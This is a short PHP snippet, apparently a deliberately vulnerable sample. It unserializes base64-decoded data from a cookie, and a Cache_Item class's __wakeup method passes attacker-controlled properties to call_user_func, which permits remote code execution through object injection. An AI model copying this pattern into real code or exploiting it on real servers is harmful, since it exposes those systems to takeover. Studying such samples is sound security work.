<?php
class Cache_Item {
    public $handler;
    public $value;
    public function __wakeup() {
        call_user_func($this->handler, $this->value);
    }
}
$item = unserialize(base64_decode($_COOKIE['ci']));
